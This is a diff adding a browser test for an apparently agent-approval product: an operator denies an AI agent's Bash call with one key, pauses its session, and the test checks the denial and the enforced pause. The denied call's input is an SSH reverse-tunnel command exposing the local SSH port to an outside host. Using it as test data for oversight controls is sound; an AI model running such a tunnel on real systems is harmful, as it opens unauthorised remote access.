@@ -172,6 +172,41 @@ test('a session is contained in one click, step by step, and let go again', asyn
   await end('con-1')
 })
 
+test('an action is denied and its session paused with one key: the agent gets the denial, the pause is observed by its host', async ({
+  page,
+}) => {
+  await run('deny-1', 1)
+  const call = {
+    session: 'deny-1',
+    callId: 'c-1',
+    tool: 'Bash',
+    input: { command: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' },
+    deadlineMs: 60_000,
+  }
+  const headers = { 'content-type': 'application/json' }
+  const answer = product.api('/api/gate', { method: 'POST', headers, body: JSON.stringify(call) })
+  await signIn(page, product)
+  await page.goto(`${product.url}/approvals`)
+  const card = page.getByRole('article', { name: /^Approval: / })
+  await expect(card.getByRole('button', { name: /^Deny \+ pause/ })).toHaveAttribute('aria-disabled', 'false')
+
+  await page.keyboard.press('Shift+D')
+  expect(await (await answer).json()).toMatchObject({ decision: 'deny' })
+  await expect(card.getByText('Denied. The pause is asked: its session tells when the host has read it.')).toBeVisible()
+  await until('paused', async () => (await detailOf('deny-1')).row.state === 'paused')
+  const { row } = await detailOf('deny-1')
+  const control = await controlOf(row.holds[0]?.control ?? '')
+  expect(control.state).toBe('enforced')
+  expect(control.receipt?.observed).toContain('frozen')
+  const counter = counterOf('deny-1')()
+  await page.goto(`${product.url}/sessions/deny-1`)
+  await expect(
+    page.getByRole('region', { name: 'Holds and receipts' }).getByText('an action was denied').first(),
+  ).toBeVisible()
+  expect(counterOf('deny-1')()).toBe(counter)
+  await end('deny-1')
+})
+
 test('two operators press Pause at once: one effect, two records, and it stays paused until both are lifted', async ({
   page,
 }) => {
